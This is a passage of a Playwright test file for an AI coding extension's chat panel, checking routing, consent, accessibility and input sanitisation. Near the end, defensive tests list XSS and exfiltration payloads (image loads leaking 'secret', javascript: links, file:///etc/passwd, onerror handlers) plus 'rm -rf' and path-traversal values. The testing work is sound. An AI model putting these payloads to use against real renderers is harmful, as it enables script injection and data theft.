  const [place] = CONSENT.places;
  assert.ok(place);
  const places = [place, { ...place, host: 'api.second.example' }];
  await hosted.send({ kind: 'state', state: { ...STATE, consent: { ...CONSENT, id: 'k3', places } } });
  await card.getByText('api.second.example').waitFor();
  assert.equal(await card.locator('details').count(), 0);
});

test('the question about a more expensive model says what happened, in its own words, and is read aloud', async () => {
  const hosted = await open({ ...STATE, busy: 'a3', turns: [...STATE.turns, waiting] });
  await hosted.send({
    kind: 'state',
    state: { ...STATE, busy: 'a3', turns: [...STATE.turns, { ...waiting, words: 'Waiting.' }], consent: STEP_UP },
  });
  const card = hosted.page.getByRole('group', { name: 'Ask sonnet-5 instead?' });
  await card.getByText('openrouter/gone did not answer.').waitFor();
  assert.equal(await card.getByRole('button', { name: 'Allow' }).count(), 0);
  await hosted.page.waitForFunction(() =>
    [...document.querySelectorAll('[aria-live]')].some((live) => live.textContent.includes('did not answer')),
  );
  await card.getByRole('button', { name: 'Do not use it' }).click();
  await card.getByRole('button', { name: 'Use sonnet-5' }).click();
  assert.deepEqual(
    await posted(hosted),
    [false, true].map((allow) => ({ kind: 'consent', consentId: 'k2', allow })),
  );
});

test('history and tiers by keyboard', async () => {
  const hosted = await open();
  await hosted.page.getByRole('button', { name: 'Chat history' }).focus();
  await hosted.page.keyboard.press('Enter');
  await hosted.page.locator('.history [data-row]:focus').waitFor();
  await hosted.page.keyboard.press('ArrowDown');
  await hosted.page.keyboard.press('Enter');
  assert.deepEqual(await posted(hosted), [{ kind: 'openThread', threadId: 't2' }]);
  await hosted.page.getByRole('button', { name: 'Tier: mid' }).focus();
  await hosted.page.keyboard.press('Enter');
  await hosted.page.locator('.tier-list:focus').waitFor();
  for (let row = 0; row < 3; row++) await hosted.page.keyboard.press('ArrowDown');
  await hosted.page.keyboard.press('Enter');
  assert.deepEqual(await posted(hosted), [{ kind: 'setTier', tier: 'frontier' }]);
});

const CHANGED: ChatState = {
  ...STATE,
  tiers: STATE.tiers.map((tier) =>
    tier.tier === 'mid'
      ? {
          ...tier,
          changed: {
            words: 'mid has answered as v4-0926 since Tuesday (before: v4-0711)',
            compare: 'Compare on my 12 tasks (about $0.03)',
          },
        }
      : tier,
  ),
};

test('a tier that answers with another model says so in the list, and compares both by key', async () => {
  const hosted = await open(CHANGED, 260);
  const button = hosted.page.getByRole('button', { name: 'Tier: mid' });
  await button.click();
  await hosted.page
    .locator('#tier-mid', { hasText: 'mid has answered as v4-0926 since Tuesday (before: v4-0711)' })
    .waitFor();
  const compare = hosted.page.getByRole('option', { name: 'Compare on my 12 tasks (about $0.03)' });
  assert.equal(await hosted.page.locator('li.compare').count(), 1, 'of the changed tier alone');
  assert.equal(await hosted.overflow(), 0);
  for (const theme of THEMES) {
    await hosted.setTheme(theme);
    assert.deepEqual(await hosted.axe(), [], theme);
  }
  await hosted.page.keyboard.press('ArrowDown');
  assert.match((await compare.getAttribute('class')) ?? '', /active/);
  await hosted.page.keyboard.press('Enter');
  assert.deepEqual(await posted(hosted), [{ kind: 'compareTier', tier: 'mid' }]);
  await button.click();
  await compare.click();
  assert.deepEqual(await posted(hosted), [{ kind: 'compareTier', tier: 'mid' }]);
  assert.equal(await hosted.page.getByRole('listbox').count(), 0);
});

test('a model of the chain, or any other one, is chosen for one question; choosing a tier ends that', async () => {
  const hosted = await open();
  await hosted.page.getByRole('button', { name: 'Tier: mid' }).click();
  await hosted.page.getByRole('option', { name: /gpt-6-mini/ }).click();
  assert.deepEqual(await posted(hosted), [{ kind: 'setModel', tier: 'mid', model: 'openrouter/openai/gpt-6-mini' }]);
  await hosted.send({ kind: 'state', state: { ...STATE, model: 'openrouter/openai/gpt-6-mini' } });
  const button = hosted.page.getByRole('button', { name: 'Model for the next question: openrouter/openai/gpt-6-mini' });
  assert.match(await button.innerText(), /gpt-6-mini/);
  await button.click();
  await hosted.page.getByRole('option', { name: 'Other model for one question' }).click();
  assert.deepEqual(await posted(hosted), [{ kind: 'otherModel' }]);
  await button.click();
  await hosted.page.locator('#tier-mid').click();
  await hosted.page.getByRole('button', { name: 'Tier: mid' }).waitFor();
});

test('the history is grouped by day, with the cost of each chat, and leads to chats of other folders', async () => {
  const day = 86_400_000;
  const at = (days: number) => new Date().setHours(12, 0, 0, 0) - days * day;
  const threads = [
    { id: 't1', title: 'Kept', updatedAt: at(40), pinned: true, cost: '' },
    { id: 't2', title: 'Now', updatedAt: Date.now(), pinned: false, cost: '$0.02' },
    { id: 't3', title: 'Before', updatedAt: at(1), pinned: false, cost: '' },
    { id: 't4', title: 'Long ago', updatedAt: at(90), pinned: false, cost: '$1.20' },
  ];
  const hosted = await open({ ...STATE, threads });
  await hosted.page.getByRole('button', { name: 'Chat history' }).click();
  const history = hosted.page.getByRole('dialog', { name: 'Chat history' });
  assert.deepEqual(await history.getByRole('heading').allInnerTexts(), ['Pinned', 'Today', 'Yesterday', 'Older']);
  assert.deepEqual(await history.locator('.history-cost').allInnerTexts(), ['$0.02', '$1.20']);
  await history.getByRole('button', { name: 'Chats from other folders' }).click();
  assert.deepEqual(await posted(hosted), [{ kind: 'otherChats' }]);
});

test('an empty chat offers prompts for the composer, and what is missing; nothing is sent by a click', async () => {
  const hosted = await open({ ...STATE, turns: [] });
  await hosted.page.getByRole('button', { name: 'Explain the open file' }).click();
  await hosted.page.waitForFunction(() => document.querySelector('textarea')?.value === '/explain ');
  await hosted.page.getByRole('button', { name: 'Set API key' }).click();
  assert.deepEqual(await posted(hosted), [{ kind: 'nextStep', next: 'set-key' }]);
  const none = { ...STATE, turns: [], tiers: STATE.tiers.map((tier) => ({ ...tier, ready: false })) };
  await hosted.send({ kind: 'state', state: none });
  await hosted.page.getByText('No model is ready yet.').waitFor();
  assert.equal(await hosted.page.getByRole('button', { name: 'Explain the open file' }).count(), 0);
  await hosted.page.getByRole('button', { name: 'Set up Ollama' }).click();
  await hosted.page.getByRole('button', { name: 'Get started' }).click();
  assert.deepEqual(await posted(hosted), [
    { kind: 'nextStep', next: 'set-up-ollama' },
    { kind: 'nextStep', next: 'get-started' },
  ]);
  // Ollama is set up where only a model that answers is missing: its row says so.
  const onlyCompletes = STATE.tiers.map((tier) =>
    tier.tier === 'local' ? { ...tier, ready: false, answers: false } : { ...tier, ready: true },
  );
  await hosted.send({ kind: 'state', state: { ...STATE, turns: [], tiers: onlyCompletes } });
  await hosted.page.getByText('Not every tier is ready yet.').waitFor();
  assert.equal(await hosted.page.getByRole('button', { name: 'Set up Ollama' }).count(), 0);
  await hosted.page.getByRole('button', { name: 'Choose a local model' }).waitFor();
});

test('an escalation shows what the user did, with its prompt folded', async () => {
  const asked: UserTurnView = {
    role: 'user',
    id: 'q',
    text: 'Review',
    chips: [],
    prompt: { label: 'Prompt', text: 'Bugs first.' },
  };
  const hosted = await open({ ...STATE, turns: [asked, ANSWER] });
  await hosted.page.getByText('Review', { exact: true }).waitFor();
  assert.ok(!(await hosted.page.getByText('Bugs first.').isVisible()));
  await hosted.page.getByText('Prompt', { exact: true }).click();
  await hosted.page.getByText('Bugs first.').waitFor();
});

test("in a view the page has no title of its own; the view's button shows the history, and Escape leads to the composer", async () => {
  const hosted = await open({ ...STATE, inView: true });
  assert.equal(await hosted.page.getByRole('button', { name: 'New chat' }).count(), 0);
  assert.ok(((await hosted.page.locator('.header').boundingBox())?.height ?? 99) < 4);
  await hosted.send({ kind: 'history' });
  await hosted.page.locator('.history [data-row]:focus').waitFor();
  assert.equal(await hosted.overflow(), 0);
  assert.deepEqual(await hosted.axe(), []);
  await hosted.page.keyboard.press('Escape');
  await hosted.page.locator('.composer textarea:focus').waitFor();
});

test('the price of a question is beside the ring only once there is a question', async () => {
  const hosted = await open();
  assert.equal(await hosted.page.locator('.room-cost').count(), 0);
  await hosted.page.getByRole('textbox', { name: 'Question' }).fill('why?');
  await hosted.page.locator('.room-cost', { hasText: '~$0.0021' }).waitFor();
  assert.match((await hosted.page.locator('.room').getAttribute('title')) ?? '', /About 15k of 128k tokens/);
});

const PROBLEMS: AppliedView = {
  id: 'e1',
  words: 'Applied to src/pool.ts. 2 new problems:',
  state: 'problems',
  problems: ["12: Cannot find name 'lock'.", '40: Unreachable code detected.'],
  canUndo: true,
  canFix: true,
};
const withCard = (applied: AppliedView): ChatState => ({ ...STATE, turns: [{ ...ANSWER, applied }] });

test('an answer whose files can be restored says so, and posts the request', async () => {
  const hosted = await open({ ...STATE, turns: [{ ...ANSWER, canRestore: true }] });
  await posted(hosted);
  await hosted.page.getByRole('button', { name: 'Restore to before this answer' }).focus();
  await hosted.page.keyboard.press('Enter');
  assert.deepEqual(await posted(hosted), [{ kind: 'restoreBefore', turnId: 'a1' }]);
});

test('the card of what was applied: problems, undo, fix, dismiss; read aloud when it changes', async () => {
  const hosted = await open(withCard({ ...PROBLEMS, state: 'checking', problems: [], canFix: false }));
  const card = hosted.page.getByRole('region', { name: 'Applied change' });
  assert.equal(await card.getByRole('button', { name: 'Fix' }).count(), 0);
  await hosted.send({ kind: 'turn', turn: { ...ANSWER, applied: PROBLEMS } });
  assert.deepEqual(await card.getByRole('listitem').allInnerTexts(), PROBLEMS.problems);
  await hosted.page.waitForFunction(
    (words) => [...document.querySelectorAll('[aria-live]')].some((live) => live.textContent.includes(words)),
    PROBLEMS.problems[1] ?? '',
  );
  await posted(hosted);
  for (const name of ['Undo', 'Fix', 'Dismiss']) {
    await card.getByRole('button', { name }).focus();
    await hosted.page.keyboard.press('Enter');
  }
  assert.deepEqual(
    await posted(hosted),
    ['undo', 'fix', 'dismiss'].map((what) => ({ kind: 'applied', turnId: 'a1', do: what })),
  );
  await hosted.send({ kind: 'turn', turn: ANSWER });
  assert.equal(await card.count(), 0);
  assert.equal(parsePageMessage(ChatFromPage, { kind: 'applied', turnId: 'a1', do: 'delete' }), undefined);
});

test('the route is one line; its menu says why, asks another tier, and makes a rule, all by keyboard', async () => {
  const hosted = await open();
  const top = hosted.page.locator('.answer-top');
  assert.match((await top.innerText()).replaceAll('\n', ' '), /frontier instead of mid · your choice/);
  assert.ok(((await top.boundingBox())?.height ?? 99) < 30, 'one line');
  await hosted.page.getByRole('button', { name: 'Why this tier, and the others' }).focus();
  await hosted.page.keyboard.press('Enter');
  const menu = hosted.page.getByRole('menu', { name: 'Why this tier, and the others' });
  assert.deepEqual(
    (await menu.getByRole('menuitem').allInnerTexts()).map((text) => text.replace(/\s*\n+\s*/g, ' | ').trim()),
    [
      'You chose frontier; Auto had chosen mid: its complexity is 3 of 5 | Complexity 3.0 of 5 · about $0.031',
      'Ask local instead | free · ollama/qwen2.5-coder:7b',
      'Ask mid instead | about $0.0012 · openrouter/deepseek-v4-flash',
      'Always do this for similar questions | Adds a rule',
    ],
  );
  await posted(hosted);
  await hosted.page.keyboard.press('Enter');
  assert.deepEqual(await posted(hosted), [{ kind: 'reroute', turnId: 'a1', tier: 'local' }]);
  await hosted.page.keyboard.press('Enter');
  await hosted.page.locator('.menu:focus').waitFor();
  await hosted.page.keyboard.press('End');
  await hosted.page.keyboard.press('Enter');
  assert.deepEqual(await posted(hosted), [{ kind: 'rememberRoute', turnId: 'a1' }]);
});

test('a code block names its file and shows Apply at all times; a shell block is run instead', async () => {
  const text = '```ts src/pool.ts\nlet a = 1;\n```\n\n```py\n# leaves.py\nx = 1\n```\n\n```sh\nnpm test\n```\n';
  const hosted = await open({ ...STATE, turns: [{ ...ANSWER, text }] });
  assert.deepEqual(await hosted.page.locator('.code-language').allInnerTexts(), ['src/pool.ts', 'leaves.py', 'sh']);
  const apply = hosted.page.getByRole('button', { name: 'Apply as a change' });
  assert.equal(await apply.count(), 2);
  assert.equal(await apply.first().evaluate((node) => getComputedStyle(node).opacity), '1');
  await hosted.send({ kind: 'files', paths: ['src/pool.ts'] });
  await hosted.page.getByRole('button', { name: 'src/pool.ts' }).first().click();
  await hosted.page.getByRole('button', { name: 'Run in terminal' }).click();
  assert.deepEqual(await posted(hosted), [
    { kind: 'openFile', turnId: 'a1', path: 'src/pool.ts' },
    { kind: 'useCode', use: 'terminal', turnId: 'a1', block: 2 },
  ]);
});

test('what the editor offers: the selection can be left out, a dashed chip is attached by a click, and the focus stays', async () => {
  const hosted = await open();
  const field = hosted.page.getByRole('textbox', { name: 'Question' });
  const offered = hosted.page.getByRole('list', { name: 'Suggested context' });
  assert.deepEqual(
    (await offered.getByRole('listitem').allInnerTexts()).map((text) => text.replace(/\s+/g, ' ').trim()),
    ['ring.ts:3-9 80 tokens 1 1 secret is masked before it leaves this machine', 'Attach leaves.py'],
  );
  await hosted.page.getByRole('button', { name: "Don't send src/ring.ts:3-9" }).click();
  await hosted.page.getByRole('button', { name: 'Attach leaves.py' }).click();
  assert.deepEqual(await posted(hosted), [
    { kind: 'removeOffer', offerId: 'o1' },
    { kind: 'takeOffer', offerId: 'o2' },
  ]);
  assert.ok(await field.evaluate((node) => node === document.activeElement));
});

test('a composer that grows does not cover the end of the answer, also where the reader has clicked in it', async () => {
  const long = { ...ANSWER, text: Array.from({ length: 60 }, (_, i) => `Line ${i}.`).join('\n\n') };
  const state = { ...STATE, turns: [...STATE.turns.slice(0, 1), long], chips: [] };
  const hosted = await open(state);
  const log = hosted.page.getByRole('log');
  const below = (): Promise<number> =>
    log.evaluate(({ scrollHeight, scrollTop, clientHeight }) => scrollHeight - scrollTop - clientHeight);
  await log.getByText('Line 59.').click();
  assert.ok((await below()) < 2);
  const before = await log.evaluate(({ clientHeight }) => clientHeight);
  const chips = Array.from({ length: 9 }, (_, i) => ({ id: `x${i}`, label: `src/some/long/name${i}.ts`, tokens: 9 }));
  await hosted.send({ kind: 'state', state: { ...state, chips } });
  await hosted.page.waitForFunction((was) => (document.querySelector('.log')?.clientHeight ?? was) < was - 20, before);
  await hosted.page.waitForFunction(() => {
    const { scrollHeight = 0, scrollTop = 0, clientHeight = 0 } = document.querySelector('.log') ?? {};
    return scrollHeight - scrollTop - clientHeight < 2;
  });
  // Who reads further up stays there.
  await log.hover();
  await hosted.page.mouse.wheel(0, -400);
  await hosted.page.waitForFunction(() => document.querySelector('.to-end') !== null);
  await hosted.send({ kind: 'state', state });
  await hosted.page.waitForTimeout(100);
  assert.ok((await below()) > 100);
});

test('a draft that is restored never replaces what the user has typed by then', async () => {
  const hosted = await server.open({ width: 400, height: 900 });
  await hosted.page.evaluate(() => {
    (window as unknown as { kept: unknown }).kept = { draft: 'an old draft' };
    const typed = new MutationObserver(() => {
      const box = document.querySelector('textarea');
      if (!box) return;
      typed.disconnect();
      box.dataset.found = box.value;
      box.value = 'typed at once';
      box.dispatchEvent(new InputEvent('input', { bubbles: true }));
    });
    typed.observe(document.body, { childList: true, subtree: true });
  });
  await hosted.send({ kind: 'init', l10n: {} });
  await hosted.send({ kind: 'state', state: STATE });
  const box = hosted.page.locator('textarea[data-found]');
  await box.waitFor();
  await hosted.page.waitForTimeout(300);
  assert.equal(await box.getAttribute('data-found'), 'an old draft');
  assert.equal(await box.inputValue(), 'typed at once');
});

test('a notice can be closed, and comes back when it says something else; that of an untrusted workspace stays', async () => {
  const hosted = await open();
  const shown = () => hosted.page.locator('.notice').allInnerTexts();
  await hosted.send({ kind: 'state', state: { ...STATE, notice: 'Demo models.' } });
  await hosted.page.getByRole('button', { name: 'Close this notice' }).click();
  assert.deepEqual(await shown(), []);
  await hosted.send({ kind: 'state', state: { ...STATE, notice: 'Demo models.' } });
  assert.deepEqual(await shown(), [], 'closed stays closed');
  assert.deepEqual(await hosted.page.evaluate('window.kept'), { draft: '', closedNotice: 'Demo models.' });
  await hosted.send({ kind: 'state', state: { ...STATE, notice: 'The ledger was repaired.' } });
  assert.deepEqual(await shown(), ['The ledger was repaired.']);
  await hosted.send({ kind: 'state', state: { ...STATE, notice: 'Not trusted.', noticeNext: 'trust' } });
  await hosted.page.locator('.notice', { hasText: 'Not trusted.' }).waitFor();
  assert.equal(await hosted.page.getByRole('button', { name: 'Close this notice' }).count(), 0);
});

/** Colors of VS Code's default themes of 2026, from theme-defaults of 4.139, whose `button.border` is that of the focus. */
const THEMES_2026 = {
  'Light 2026': {
    'button-border': '#0069CC',
    'button-secondaryBorder': '#EAEAEA',
    'button-secondaryBackground': '#EAEAEA',
    focusBorder: '#0069CC',
    'widget-border': '#E2E2E5',
    'input-border': '#D8D8D866',
    'menu-border': '#E4E5E6',
  },
  'Dark 2026': {
    'button-border': '#297AA0',
    'button-secondaryBorder': '#333536',
    focusBorder: '#3994BCB3',
    'widget-border': '#2A2B2C',
    'input-border': '#333536',
    'menu-border': '#2A2B2C',
  },
} as const;

test('in the default themes of 2026 nothing without the focus has a border like that of the focus', async () => {
  const hosted = await open({
    ...STATE,
    turns: [...STATE.turns, failed],
    notice: 'This workspace is not trusted.',
    noticeNext: 'trust',
    consent: CONSENT,
  });
  await hosted.page.getByRole('button', { name: 'Allow' }).waitFor();
  for (const [name, colors] of Object.entries(THEMES_2026)) {
    const found = await hosted.page.evaluate(
      (values) => {
        const [root, active] = [document.documentElement, document.activeElement];
        for (const [key, value] of Object.entries(values)) root.style.setProperty(`--vscode-${key}`, value);
        const probe = document.body.appendChild(document.createElement('i'));
        const colorOf = (value: string): string => {
          probe.style.color = value;
          return getComputedStyle(probe).color;
        };
        const looksFocused = [values['focusBorder'], values['button-border']].map((value) => colorOf(value ?? ''));
        const secondary = colorOf(values['button-secondaryBorder'] ?? '');
        const bordered = [...document.querySelectorAll('body *')].filter((node) => {
          const { borderTopStyle, borderTopWidth, borderTopColor, backgroundColor } = getComputedStyle(node);
          const isFilled = backgroundColor !== 'rgba(0, 0, 0, 0)' && node.matches('.button:not(.secondary)');
          if (borderTopStyle === 'none' || borderTopWidth === '0px' || isFilled) return false;
          return !node.contains(active) && looksFocused.includes(borderTopColor);
        });
        const buttons = [...document.querySelectorAll('.button.secondary')].map(
          (node) => getComputedStyle(node).borderTopColor === secondary,
        );
        probe.remove();
        return { bordered: bordered.map((node) => node.outerHTML.slice(0, 80)), buttons };
      },
      colors as Readonly<Record<string, string>>,
    );
    assert.deepEqual(found.bordered, [], name);
    assert.ok(found.buttons.length >= 2 && found.buttons.every(Boolean), name);
  }
  // The card had the focus from the start, and looks like others once it has gone on.
  await hosted.page.keyboard.press('Tab');
  const border = await hosted.page.locator('.consent').evaluate((card) => getComputedStyle(card).borderTopColor);
  assert.equal(border, 'rgb(42, 43, 44)');
});

test('axe-core finds nothing in any state or theme, and nothing is wider than the page', async () => {
  const states: Record<string, ChatState> = {
    empty: { ...STATE, turns: [], chips: [], thread: { id: 't0', title: '' } },
    answered: STATE,
    waiting: { ...STATE, busy: 'a3', turns: [...STATE.turns, waiting] },
    failed: {
      ...STATE,
      turns: [...STATE.turns, failed],
      notice: 'This workspace is not trusted.',
      noticeNext: 'trust',
    },
    consent: { ...STATE, consent: CONSENT },
    stepUp: { ...STATE, consent: STEP_UP },
    compared: COMPARED,
    blind: BLIND,
    voted: VOTED,
    clean: withCard({ ...PROBLEMS, state: 'clean', problems: [], canFix: false }),
    applied: withCard(PROBLEMS),
    undone: withCard({ ...PROBLEMS, state: 'undone', problems: [], canUndo: false, canFix: false }),
    folded: {
      ...STATE,
      turns: [
        ...STATE.turns,
        {
          role: 'summary',
          id: 'f1',
          words: 'The questions above (6) are sent as a summary',
          text: '- notes',
          detail: 'by m',
        },
      ],
      contextMeter: {
        ...STATE.contextMeter!,
        level: 'near',
        share: '96%',
        used: 0.96,
        warning: 'The oldest questions are summarized.',
      },
    },
  };
  for (const [name, state] of Object.entries(states)) {
    const hosted = await open(state, 240);
    assert.equal(await hosted.overflow(), 0, `${name} at 240 px`);
    for (const theme of THEMES) {
      await hosted.setTheme(theme);
      assert.deepEqual(await hosted.axe(), [], `${name} in ${theme}`);
    }
    assert.deepEqual(hosted.errors, []);
    assert.deepEqual(await hosted.violations(), []);
  }
});

/** What a model could send to make the page do something; `![x](…)` and the like would load a picture. */
const PAYLOADS = [
  ...HOSTILE,
  '![x](http://127.0.0.1:1/?d=secret)',
  '<img srcset="http://127.0.0.1:1/a 1x">',
  '[a](javascript:window.pwned=1) [b](command:x) [c](vscode://x) [d](file:///etc/passwd) [e](data:text/html,x)',
  '<picture><source srcset=http://127.0.0.1:1/></picture><video poster=http://127.0.0.1:1/></video>',
  '<a href="javascript:window.pwned=1">x</a><form action=http://127.0.0.1:1/><input type=image src=http://127.0.0.1:1/></form>',
  '<link rel=prefetch href=http://127.0.0.1:1/><meta http-equiv=refresh content="0;url=http://127.0.0.1:1/">',
  '```html\n<script>window.pwned=1</script>\n```',
  '| <img src=x onerror=window.pwned=1> |\n|---|\n| <svg onload=window.pwned=1> |',
  '<table background=http://127.0.0.1:1/><style>@import "http://127.0.0.1:1/"</style></table>',
];

test('T06 T09 nothing that a model, a file or a server says becomes an element, runs, or is fetched', async () => {
  const hosted = await open();
  for (const text of PAYLOADS) {
    await hosted.send({
      kind: 'state',
      state: {
        ...STATE,
        thread: { id: 't1', title: text },
        notice: text,
        threads: [{ id: 't1', title: text, updatedAt: 1, pinned: true, cost: '$0.02' }],
        chips: [{ id: 'c', label: text, tokens: 1, detail: text }],
        tiers: STATE.tiers.map((tier) => ({ ...tier, model: text, state: text, price: text })),
        turns: [
          { role: 'user', id: 'q', text, chips: [{ id: 'c', label: text, tokens: 1 }] },
          {
            ...ANSWER,
            id: 'a',
            text,
            reasoning: text,
            model: text,
            provider: text,
            words: text,
            footer: { ...STATE_FOOTER, cost: text, fallback: text, notes: [text] },
          },
        ],
      },
    });
    const { ran, elements } = await hosted.harm();
    assert.equal(ran, false, text);
    assert.deepEqual(
      elements.filter((html) => !/^<a [^>]*href="https?:/.test(html)),
      [],
      text,
    );
    assert.deepEqual(await hosted.violations(), [], text);
  }
  assert.deepEqual(hosted.errors, []);
});

test('H5 a stored thread with answers without end opens at once, and shows all of them', async () => {
  const pumps = ['!', '> ', '1. ', 'a_a_a_', '[a](', '- a\n'];
  const turns = pumps.map((pump, i) => ({
    ...ANSWER,
    id: `h${i}`,
    text: `${pump.repeat(Math.ceil(131_072 / pump.length))}\n\n\`\`\`ts\nlast ${i}\n\`\`\`\n`,
  }));
  const hosted = await open({ ...STATE, turns: [] });
  const begun = performance.now();
  await hosted.send({ kind: 'state', state: { ...STATE, turns } });
  await hosted.page
    .locator('article.answer')
    .nth(pumps.length - 1)
    .waitFor();
  await hosted.page.locator('textarea').first().fill('still here');
  const ms = performance.now() - begun;
  assert.ok(ms < 15_000, `${Math.round(ms)} ms`);
  assert.deepEqual(hosted.errors, []);
});

test('the page and the host count the code blocks alike', async () => {
  const text =
    '```a\n1\n```\n\n- item\n\n  ~~~b\n  2\n  ~~~\n\n> ````c\n> ```\n> 3\n> ````\n\n    indented 4\n\n```d\nnever closed 5';
  const blocks = codeBlocks(text);
  assert.deepEqual(
    blocks.map((block) => block.language),
    ['a', 'b', 'c', '', 'd'],
  );
  const hosted = await open({ ...STATE, turns: [{ ...ANSWER, text }] });
  const shown = await hosted.page.locator('.code-block pre').allInnerTexts();
  assert.deepEqual(
    shown.map((code) => code.trimEnd()),
    blocks.map((block) => block.text.trimEnd()),
  );
  for (let i = 0; i < blocks.length; i++) {
    await hosted.page.locator('.code-block').nth(i).getByRole('button', { name: 'Copy code' }).click();
    assert.deepEqual(await posted(hosted), [{ kind: 'useCode', use: 'copy', turnId: 'a1', block: i }]);
  }
});

test('T10 messages that are not on the list are dropped', () => {
  for (const junk of [
    null,
    1,
    'ask',
    {},
    { kind: 'ask' },
    { kind: 'run', command: 'x' },
    { kind: 'useCode', use: 'insert', turnId: 'a', block: -1 },
    { kind: 'useCode', use: 'run', turnId: 'a', block: 0 },
    { kind: 'ask', text: 'x'.repeat(3 * 1024 * 1024), tier: 'mid' },
    { kind: 'ask', text: 'x', tier: 'root' },
    { kind: 'useCode', use: 'insert', turnId: '../x', block: 0 },
    { kind: 'useCode', use: 'insert', turnId: 'a', block: 0.5, text: 'rm -rf' },
    { kind: 'openFile', turnId: 'a', path: 'x'.repeat(500) },
    { kind: 'attachFiles', uris: Array.from({ length: 99 }, () => 'file:///a') },
    { kind: 'attachImage', name: '', mime: 'image/svg+xml', data: 'AAAA' },
  ])
    assert.equal(parsePageMessage(ChatFromPage, junk), undefined, JSON.stringify(junk)?.slice(0, 60));
});

test('T10 a thousand random messages: what is let through has exactly the shape of its kind', () => {
  let seed = 7;
  const random = (n: number): number => (seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648) % n;
  const kinds = ChatFromPage.options.map(({ entries }) => entries.kind.literal as string);
  const values = ['', 'x', 'mid', 'auto', '../../etc/passwd', -1, 0, 1e9, null, true, [], ['file:///a'], { a: 1 }, NaN];
  const names = [
    'text',
    'tier',
    'turnId',
    'block',
    'use',
    'path',
    'line',
    'uris',
    'threadId',
    'seq',
    'query',
    '__proto__',
  ];
  let through = 0;
  for (let i = 0; i < 1_000; i++) {
    const message: Record<string, unknown> = { kind: kinds[random(kinds.length)] };
    for (let n = random(5); n > 0; n--) message[names[random(names.length)] ?? ''] = values[random(values.length)];
    const parsed = parsePageMessage(ChatFromPage, message) as Record<string, unknown> | undefined;
    if (!parsed) continue;
    through++;
    for (const [name, value] of Object.entries(parsed)) {
      if (name === 'turnId' || name === 'threadId') assert.match(String(value), /^[\w.:-]{1,80}$/);
      if (name === 'block') assert.ok(Number.isInteger(value) && Number(value) >= 0);
      if (name === 'tier') assert.ok(['auto', 'local', 'mid', 'frontier'].includes(String(value)));
    }
  }
  assert.ok(through > 0 && through < 700, `${through} of 1,000 were let through`);
});
